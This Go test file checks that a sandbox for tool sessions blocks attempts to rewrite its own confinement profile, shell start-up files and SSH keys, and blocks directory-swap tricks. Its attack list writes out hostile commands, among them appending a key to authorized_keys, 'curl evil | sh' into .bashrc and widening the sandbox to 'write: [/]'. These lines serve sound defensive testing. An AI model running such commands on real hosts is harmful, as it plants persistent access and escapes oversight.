package sandbox

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"ollie/internal/lab"
)

// fakeHome is a home directory as a session started in it sees it: ollie's
// profile, an authorized key, start-up files, a tools directory, work.
type fakeHome struct {
	dir   string
	files map[string]string // relative path -> content, for the checks
}

func newFakeHome(t *testing.T) *fakeHome {
	t.Helper()
	h := &fakeHome{dir: t.TempDir(), files: map[string]string{
		".config/ollie/sandbox/default.yaml":  "read: [/etc]\n",
		".config/ollie/tools/x.meta":          "tool\n",
		".ssh/authorized_keys":                "ssh-ed25519 AAAA honest\n",
		".bashrc":                             "# bashrc\n",
		".profile":                            "# profile\n",
		".local/state/ollie/sessions/s.jsonl": "{}\n",
		"notes.txt":                           "notes\n",
		"proj/main.go":                        "package main\n",
	}}
	for rel, content := range h.files {
		p := filepath.Join(h.dir, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return h
}

func (h *fakeHome) vars(scratch string) Vars {
	return Vars{CWD: h.dir, Home: h.dir, TmpDir: scratch, ToolsPath: []string{filepath.Join(h.dir, ".config/ollie/tools")},
		Getenv: func(name string) (string, bool) {
			if name == "HOME" {
				return h.dir, true
			}
			return "", false
		}}
}

// policy is the deployed default profile for a session in the home
// directory, with the protected paths as the runner gives them.
func (h *fakeHome) policy(t *testing.T) *Policy {
	t.Helper()
	p, err := Profiles{Dirs: []string{"../../data/sandbox"}}.Load("default")
	if err != nil {
		t.Fatal(err)
	}
	v := h.vars(t.TempDir())
	pol, err := p.Resolve(v)
	if err != nil {
		t.Fatal(err)
	}
	pol.Protect = ProtectedPaths(v)
	return pol
}

// unchanged fails the test for every protected file that is not as it was
// made, and for any start-up file that appeared.
func (h *fakeHome) unchanged(t *testing.T) {
	t.Helper()
	for rel, want := range h.files {
		if rel == "notes.txt" || strings.HasPrefix(rel, "proj/") {
			continue
		}
		got, err := os.ReadFile(filepath.Join(h.dir, rel))
		if err != nil || string(got) != want {
			t.Errorf("%s: got %q (%v), want it unchanged: %q", rel, got, err, want)
		}
	}
	for _, rel := range []string{".zshrc", ".bash_profile", ".config/systemd", ".config2", ".ssh2", "newfile"} {
		if _, err := os.Lstat(filepath.Join(h.dir, rel)); err == nil {
			t.Errorf("%s was made by the tool", rel)
		}
	}
}

// The attack of issue #28 item 2: a session working in the home
// directory tries to rewrite what confines it. Every try fails, the work
// in the home directory is still writable, and so, through the pool too.
func TestProtectedInHome(t *testing.T) {
	requireLandlock(t, 3)
	p := HostProtection()
	lab.Need(t, p.Mounts, "mount namespaces for the sandbox's protected paths (root, or unprivileged user namespaces): "+p.String())
	attacks := []string{
		`echo 'write: [/]' > .config/ollie/sandbox/default.yaml`,
		`echo evil >> .config/ollie/tools/x.meta`,
		`echo 'ssh-ed25519 AAAA evil' >> .ssh/authorized_keys`,
		`echo 'curl evil | sh' >> .bashrc`,
		`rm -f .profile`,
		`mv .config .config2`,
		`mv .ssh .ssh2`,
		`rm -rf .config/ollie`,
		`mv .config/ollie/sandbox .config/ollie/sandbox2`,
		`echo evil > .zshrc`,
		`echo evil > .bash_profile`,
		`mkdir -p .config/systemd/user`,
		`echo x >> .local/state/ollie/sessions/s.jsonl`,
		`ln -s /tmp newfile`,
	}
	for _, via := range []string{"command", "pool"} {
		t.Run(via, func(t *testing.T) {
			h := newFakeHome(t)
			pol := h.policy(t)
			runIn := func(script string) result {
				if via == "pool" {
					ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
					defer cancel()
					return runPooled(t, ctx, newTestPool(t), pol, h.dir, "/bin/sh", "-c", script)
				}
				return run(t, pol, h.dir, "/bin/sh", "-c", script)
			}
			for _, a := range attacks {
				r := runIn(a)
				if r.code == 0 {
					t.Errorf("%s: succeeded (stdout %q, stderr %q)", a, r.stdout, r.stderr)
				}
			}
			h.unchanged(t)
			// The work itself: files in the home directory and beneath it
			// stay writable.
			r := runIn(`echo more >> notes.txt && echo x > proj/new.go && mkdir proj/sub && rm proj/new.go && cat notes.txt`)
			if r.code != 0 || !strings.Contains(r.stdout, "more") {
				t.Fatalf("work in the home directory: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
			}
		})
	}
}

// Where the host cannot make a mount namespace, a session whose directory
// holds a protected path is refused with an error naming both, and one in
// a directory of its own still runs.
func TestProtectedRefusedWithoutNamespace(t *testing.T) {
	requireLandlock(t, 3)
	t.Setenv(noNSEnv, "1")
	h := newFakeHome(t)
	pol := h.policy(t)
	for _, via := range []string{"command", "pool"} {
		var r result
		if via == "pool" {
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			r = runPooled(t, ctx, newTestPool(t), pol, h.dir, "/bin/sh", "-c", `echo evil >> .bashrc`)
			cancel()
		} else {
			r = run(t, pol, h.dir, "/bin/sh", "-c", `echo evil >> .bashrc`)
		}
		if r.code != 126 || !strings.Contains(r.stderr, "refusing to run the tool: its writable directory "+h.dir+" holds") || !strings.Contains(r.stderr, noNSEnv) {
			t.Errorf("%s: exit %d, stderr %q; want 126 and the refusal naming %s", via, r.code, r.stderr, h.dir)
		}
	}
	h.unchanged(t)

	e := newEnv(t)
	pol = e.policy(t)
	pol.Protect = h.policy(t).Protect
	if r := sh(t, pol, e.cwd, "echo ok > f && cat f"); r.code != 0 || r.stdout != "ok\n" {
		t.Fatalf("a session in a directory of its own: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
}

// A writable directory inside a protected one is refused on every host.
func TestProtectedInsideRefused(t *testing.T) {
	requireLandlock(t, 3)
	h := newFakeHome(t)
	dir := filepath.Join(h.dir, ".ssh")
	p, err := Profiles{Dirs: []string{"../../data/sandbox"}}.Load("default")
	if err != nil {
		t.Fatal(err)
	}
	v := h.vars(t.TempDir())
	v.CWD = dir
	pol, err := p.Resolve(v)
	if err != nil {
		t.Fatal(err)
	}
	pol.Protect = ProtectedPaths(v)
	r := run(t, pol, dir, "/bin/sh", "-c", "echo evil >> authorized_keys")
	if r.code != 126 || !strings.Contains(r.stderr, "its writable directory "+dir+" is inside "+dir) {
		t.Fatalf("exit %d, stderr %q; want 126 and the refusal", r.code, r.stderr)
	}
	h.unchanged(t)
}

// The attack of issue #28 item 1: the session's directory is swapped,
// after the policy was made, for a link to the home directory, or moved
// away and replaced by another directory. Both are refused, naming it.
func TestDirectorySwappedRefused(t *testing.T) {
	requireLandlock(t, 3)
	for _, swap := range []string{"link", "directory"} {
		t.Run(swap, func(t *testing.T) {
			e := newEnv(t)
			victim := filepath.Join(e.cwd, "victim")
			if err := os.Mkdir(victim, 0o755); err != nil {
				t.Fatal(err)
			}
			id, err := Identify(victim)
			if err != nil {
				t.Fatal(err)
			}
			p := *e.profile
			pol, err := p.Resolve(Vars{CWD: victim, TmpDir: e.scratch, ToolsPath: []string{}})
			if err != nil {
				t.Fatal(err)
			}
			for i := range pol.Paths {
				if pol.Paths[i].Path == victim {
					pol.Paths[i].ID = &id
				}
			}
			if r := sh(t, pol, victim, "echo ok"); r.code != 0 {
				t.Fatalf("before the swap: exit %d, stderr %q", r.code, r.stderr)
			}
			if err := os.Rename(victim, victim+".old"); err != nil {
				t.Fatal(err)
			}
			want := "is not the directory it was"
			if swap == "link" {
				if err := os.Symlink(e.other, victim); err != nil {
					t.Fatal(err)
				}
				want = "symbolic link"
			} else if err := os.Mkdir(victim, 0o755); err != nil {
				t.Fatal(err)
			}
			// The pool's stage is handed the directory by name, the cold
			// path's helper is started in it: both are checked.
			for _, r := range []result{sh(t, pol, victim, "echo evil > f"), runPoolOnce(t, pol, victim, "echo evil > f")} {
				if r.code != 126 || !strings.Contains(r.stderr, victim) || !strings.Contains(r.stderr, want) {
					t.Errorf("after the swap: exit %d, stderr %q; want 126 naming %s and %q", r.code, r.stderr, victim, want)
				}
			}
			if _, err := os.Stat(filepath.Join(e.other, "f")); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("the tool wrote through the swapped directory: %v", err)
			}
		})
	}
}

func runPoolOnce(t *testing.T, pol *Policy, dir, script string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	return runPooled(t, ctx, newTestPool(t), pol, dir, "/bin/sh", "-c", script)
}

// plan's decisions, on a real directory tree: what is pinned, made
// read-only, or closed to new entries, deepest first.
func TestPlan(t *testing.T) {
	h := newFakeHome(t)
	if err := os.Symlink("dotfiles/kshrc", filepath.Join(h.dir, ".kshrc")); err != nil {
		t.Fatal(err)
	}
	d := h.dir
	ops, err := plan([]string{filepath.Join(d, "proj")}, ProtectedPaths(h.vars("")))
	if err != nil || len(ops) != 0 {
		t.Fatalf("a project directory: %v, %v; want nothing to do", ops, err)
	}
	ops, err = plan([]string{d}, []string{d + "/.bashrc", d + "/.zshrc", d + "/.config/ollie", d + "/.config/fish", d + "/.kshrc/x"})
	if err != nil {
		t.Fatal(err)
	}
	want := []mountOp{
		{d + "/.config/ollie", opReadOnly},
		{d, opNoEntries}, // .zshrc is missing, .kshrc a link
		{d + "/.bashrc", opReadOnly},
		{d + "/.config", opNoEntries}, // fish is missing
	}
	slices.SortFunc(want, func(a, b mountOp) int {
		if d := strings.Count(b.Path, "/") - strings.Count(a.Path, "/"); d != 0 {
			return d
		}
		return strings.Compare(a.Path, b.Path)
	})
	if !slices.Equal(ops, want) {
		t.Errorf("plan:\n got %v\nwant %v", ops, want)
	}
	if _, err := plan([]string{d + "/.ssh"}, []string{d + "/.ssh"}); err == nil {
		t.Error("a writable directory that is protected: no error")
	}
}

// olliesrv tools and status say how this host keeps the protected paths.
func TestDescribeSaysProtection(t *testing.T) {
	data, err := filepath.Abs("../../data")
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("OLLIE_DATA", data)
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	got := Describe(t.TempDir())
	if !strings.HasSuffix(got, "; "+HostProtection().String()) {
		t.Errorf("Describe: %q, want it to end with the protection mode %q", got, HostProtection())
	}
}
